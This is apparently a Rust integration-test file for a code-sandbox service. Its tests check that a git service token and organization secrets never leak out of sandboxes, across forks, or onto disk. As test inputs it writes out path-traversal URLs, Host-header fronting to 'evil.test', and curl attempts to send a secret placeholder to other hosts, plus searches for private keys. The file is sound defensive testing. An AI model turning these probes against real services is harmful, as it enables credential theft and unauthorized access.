//! Attacks 91 to 100: what never enters a sandbox.

use super::*;

/// Attacks 91 to 100: credentials that never enter.
pub(crate) fn credentials(w: &World) -> anyhow::Result<()> {
    let outside = outside(w)?;
    let org = w.id(&["org", "create", "guild"])?;
    w.cli(&["org", "add-member", &org, &w.account])?;
    w.cli(&["org", "claim", &org, "private/gadgets"])?;
    let session = w.new_session()?;
    let body = json!({"repoUrl": "https://github.com/private/gadgets", "sessionId": session});
    // Nobody else's account gets it.
    let stranger = w.call(
        Method::POST,
        "/api/sandbox",
        Some(&w.other_key),
        Some(json!({"repoUrl": "https://github.com/private/gadgets"})),
    )?;
    ensure!(stranger.0 != StatusCode::OK, "{stranger:?}");
    w.good(Method::POST, "/api/sandbox", Some(body.clone()))?;
    let name = format!("session-{session}");
    ensure!(w.ok(&name, "cat file1")? == "1", "the private repository is there");
    // Clone, fetch and push inside.
    w.ok(&name, "git fetch origin && git clone -q https://github.com/private/gadgets.git /tmp/again && cat /tmp/again/file2")?;
    w.ok(&name, "echo more > more && git add more && git commit -qm more && git push -q origin HEAD:refs/heads/pushed")?;
    w.remote("git -C git/private/gadgets.git rev-parse --verify -q pushed >/dev/null")?;
    // Another private repository's path gets nothing, nor a path that could be read so.
    let (code, _, err) =
        w.shell(&name, "GIT_TERMINAL_PROMPT=0 git clone -q https://github.com/private/others /tmp/o")?;
    ensure!(code != 0 && err.contains("could not read Username"), "{err}");
    outside.requests();
    for path in [
        "/private/others/info/refs?service=git-upload-pack",
        "/private/gadgets/../others/info/refs?service=git-upload-pack",
        "/private/gadgets/%2e%2e/others/info/refs?service=git-upload-pack",
        "/private/gadgets.gitx/info/refs",
        "/x/private/gadgets/info/refs",
        "/",
    ] {
        status(w, &name, &format!("--path-as-is 'https://github.com{path}'"))?;
    }
    for host in ["api.github.com", "uploads.github.com", "codeload.github.com"] {
        for path in ["/user", "/repos/private/others", "/graphql", "/private/others/zip/main"] {
            status(w, &name, &format!("https://{host}{path}"))?;
        }
    }
    // Fronted, over HTTP, as another name (93).
    status(w, &name, "-H 'Host: evil.test' https://github.com/private/gadgets")?;
    status(w, &name, "http://github.com/private/gadgets/info/refs")?;
    status(w, &name, &format!("-k --connect-to api.test:443:{CDN}:443 https://api.test/private/gadgets"))?;
    let arrived = outside.requests();
    ensure!(arrived.len() > 6, "the control: requests arrive");
    let leaked: Vec<_> =
        arrived.iter().filter(|request| !request.header("authorization").is_empty()).collect();
    ensure!(leaked.is_empty(), "{leaked:?}");
    // Where it belongs it is, as a bearer token.
    status(w, &name, "https://api.github.com/repos/private/gadgets/pulls")?;
    let arrived = outside.requests();
    ensure!(arrived[0].header("authorization") == format!("Bearer {SERVICE_TOKEN}"), "{arrived:?}");
    // Kept through sleep, resume, a probe and a restart of the server.
    w.stop(&name)?;
    w.end_server("-KILL")?;
    w.serve()?;
    w.good(Method::GET, &format!("/api/sandbox/reconnect?sessionId={session}"), None)?;
    w.good(Method::POST, "/api/sandbox", Some(body))?;
    w.ok(&name, "git fetch origin")?;
    // A fork of it may do what it may.
    w.good(Method::POST, &format!("{SANDBOXES}/{name}/fork"), Some(json!({"name": "forked"})))?;
    w.ok("forked", "cd /vercel/sandbox && git fetch origin")?;
    // A policy that somebody chose stays, also over the next server's look at credentials.
    set_policy(w, &w.run("forked")?, json!({"mode": "allow-all"}))?;
    let fetches = |name: &str| {
        let (code, ..) = w.shell(name, "cd /vercel/sandbox && GIT_TERMINAL_PROMPT=0 git fetch -q origin")?;
        Ok::<_, anyhow::Error>(code == 0)
    };
    ensure!(!fetches("forked")?, "a policy without the token has it");
    w.good(Method::POST, &format!("{SANDBOXES}/{name}/fork"), Some(json!({"name": "forked-too"})))?;
    w.end_server("-TERM")?;
    w.serve()?;
    ensure!(fetches(&name)? && fetches("forked-too")?, "the next server takes them away");
    ensure!(!fetches("forked")?, "the next server gives them back");
    // And the token is nowhere (91).
    everywhere(w, &name)?;
    everywhere(w, "forked-too")?;
    // Who is no member any more has it no more, in forks neither.
    w.cli(&["org", "remove-member", &org, &w.account])?;
    w.end_server("-TERM")?;
    w.serve()?;
    for name in [&name, "forked-too"] {
        eventually("the token is taken away", Duration::from_secs(10), || Ok(!fetches(name)?))?;
    }
    w.delete("forked")?;
    w.delete("forked-too")?;
    w.delete(&name)
}

/// Searches for the service's token, in all encodings that matter, where it must not be.
fn everywhere(w: &World, name: &str) -> anyhow::Result<()> {
    use base64::Engine as _;
    use base64::prelude::BASE64_STANDARD;
    let pair = BASE64_STANDARD.encode(format!("x-access-token:{SERVICE_TOKEN}"));
    let plain = BASE64_STANDARD.encode(SERVICE_TOKEN);
    let hex: String = SERVICE_TOKEN.bytes().map(|byte| format!("{byte:02x}")).collect();
    let needles = [SERVICE_TOKEN, &pair[..40], &plain[..plain.len() - 4], &hex];
    // Written backwards, so that the search does not find itself.
    let backwards: Vec<String> = needles.iter().map(|needle| needle.chars().rev().collect()).collect();
    let search = std::fs::read_to_string(inside("search.py"))?;
    let backwards = serde_json::to_string(&backwards)?;
    let look = |root: &str| w.exec(name, &["--sudo"], &["python3", "-c", &search, &backwards, root]);
    // The control finds what is there.
    let (code, out, err) = look("plant")?;
    ensure!(code == 0 && out.contains("/tmp/planted"), "the control finds nothing: {out}{err}");
    let (code, out, err) = look("/")?;
    ensure!(code == 0 && out.trim() == "[]", "the token is in the sandbox: {out}{err}");
    // The host: database, log, volumes and snapshots of the pool, but for the file that
    // it was given in.
    let mut grep = std::process::Command::new("grep");
    grep.args(["-rlaF"]).args(needles.iter().flat_map(|needle| ["-e", needle]));
    let found = grep.args([w.dir.join("data"), w.dir.join("server.log")]).output()?;
    ensure!(found.status.code() == Some(1), "on the host: {}", String::from_utf8_lossy(&found.stdout));
    for path in [format!("{SANDBOXES}/{name}"), SANDBOXES.to_owned(), "/api/sandbox/status".to_owned()] {
        let (_, reply) = w.call(Method::GET, &path, Some(&w.key), None)?;
        ensure!(needles.iter().all(|needle| !reply.to_string().contains(needle)), "{path}: {reply}");
    }
    Ok(())
}

/// Attacks 94, 96, 99 and 100: secrets of an organization, and what stands for them.
pub(crate) fn secrets(w: &World) -> anyhow::Result<()> {
    const VALUE: &str = "sk-live-0123456789abcdef";
    let outside = outside(w)?;
    let org = w.id(&["org", "create", "keepers"])?;
    w.cli(&["org", "add-member", &org, &w.account])?;
    w.cli(&["org", "claim", &org, "acme/widgets"])?;
    let path = format!("/api/organizations/{org}/secrets");
    let body = json!({"value": VALUE, "hosts": ["api.test"]});
    // Members only, and what cannot be is refused by name.
    let stranger = w.call(Method::PUT, &format!("{path}/API_KEY"), Some(&w.other_key), Some(body.clone()))?;
    ensure!(stranger.0 == StatusCode::NOT_FOUND, "{stranger:?}");
    let bad = w.call(Method::PUT, &format!("{path}/api-key"), Some(&w.key), Some(body.clone()))?;
    ensure!(bad.0 == StatusCode::BAD_REQUEST && bad.1.to_string().contains("name"), "{bad:?}");
    w.good(Method::PUT, &format!("{path}/API_KEY"), Some(body))?;
    let listed = w.good(Method::GET, &path, None)?;
    ensure!(listed["secrets"][0]["name"] == "API_KEY" && !listed.to_string().contains(VALUE), "{listed}");

    let (_, name) = w.sandbox()?;
    let placeholder = w.ok(&name, "echo $DORMOUSE_SECRET_API_KEY")?;
    ensure!(placeholder.starts_with("dm_placeholder_"), "{placeholder:?}");
    // What its clone asked.
    outside.requests();
    let bearer = "-H \"authorization: Bearer $DORMOUSE_SECRET_API_KEY\"";
    // Where it belongs it is swapped, in basic authentication too; the answer that
    // repeats it is scrubbed.
    let said = curl(w, &name, &format!("--include {bearer} https://api.test/headers"))?;
    ensure!(!said.contains(VALUE) && said.contains("********"), "{said}");
    curl(w, &name, "-u \"me:$DORMOUSE_SECRET_API_KEY\" https://api.test/headers")?;
    let arrived = outside.requests();
    ensure!(arrived[0].header("authorization") == format!("Bearer {VALUE}"), "{arrived:?}");
    use base64::Engine as _;
    let basic = base64::prelude::BASE64_STANDARD.encode(format!("me:{VALUE}"));
    ensure!(arrived[1].header("authorization") == format!("Basic {basic}"), "{arrived:?}");
    // Nowhere else: another host, another header, a URL, a body, another port, no TLS.
    for args in [
        format!("-k {bearer} https://other.test/headers"),
        "-H \"x-key: $DORMOUSE_SECRET_API_KEY\" https://api.test/headers".to_owned(),
        "\"https://api.test/headers?key=$DORMOUSE_SECRET_API_KEY\"".to_owned(),
        "-d \"key=$DORMOUSE_SECRET_API_KEY\" https://api.test/headers".to_owned(),
        format!("{bearer} http://api.test/headers"),
        format!("{bearer} -k --http2 -H 'Host: other.test' https://api.test/headers"),
    ] {
        curl(w, &name, &args)?;
    }
    let arrived = outside.requests();
    ensure!(arrived.len() == 5, "{arrived:?}");
    ensure!(!format!("{arrived:?}").contains(VALUE), "{arrived:?}");
    // Another sandbox does not get it by what stands for it (100), nor believes in the
    // first one's authority (99).
    make(w, "net-thief", json!({"mode": "allow-all"}))?;
    curl(w, "net-thief", &format!("-k -H 'authorization: Bearer {placeholder}' https://api.test/headers"))?;
    ensure!(!format!("{:?}", outside.requests()).contains(VALUE));
    ensure!(w.ok(&name, "cat /etc/dormouse/ca.crt")? != w.ok("net-thief", "cat /etc/dormouse/ca.crt")?);
    let keys =
        w.root_shell(&name, "grep -rls 'PRIVATE KEY' /etc/dormouse /usr/local/share/ca-certificates /run")?;
    ensure!(keys.1.trim().is_empty(), "a key is inside: {}", keys.1);
    // A new value is used at the next wake; a deleted one never again.
    w.good(
        Method::PUT,
        &format!("{path}/API_KEY"),
        Some(json!({"value": "sk-live-another-one", "hosts": ["api.test"]})),
    )?;
    let session = name.trim_start_matches("session-").to_owned();
    w.stop(&name)?;
    w.post(&session)?;
    outside.requests();
    ensure!(w.ok(&name, "echo $DORMOUSE_SECRET_API_KEY")? == placeholder, "what stands for it changed");
    curl(w, &name, &format!("{bearer} https://api.test/headers"))?;
    ensure!(outside.requests()[0].header("authorization") == "Bearer sk-live-another-one");
    let listed = String::from_utf8_lossy(&w.cli(&["secret", "list", &org])?.stdout).into_owned();
    ensure!(
        listed.contains("API_KEY") && listed.contains("api.test") && !listed.contains("sk-live"),
        "{listed}"
    );
    w.cli(&["secret", "delete", &org, "API_KEY"])?;
    w.stop(&name)?;
    w.post(&session)?;
    outside.requests();
    curl(w, &name, &format!("-k {bearer} https://api.test/headers"))?;
    ensure!(outside.requests()[0].header("authorization") == format!("Bearer {placeholder}"));
    // It is sealed in the database.
    let found = std::process::Command::new("grep")
        .args(["-claF", "sk-live-"])
        .arg(w.dir.join("data/dormouse.db"))
        .output()?;
    ensure!(found.status.code() == Some(1), "the database holds it");
    w.delete("net-thief")?;
    w.delete(&name)
}
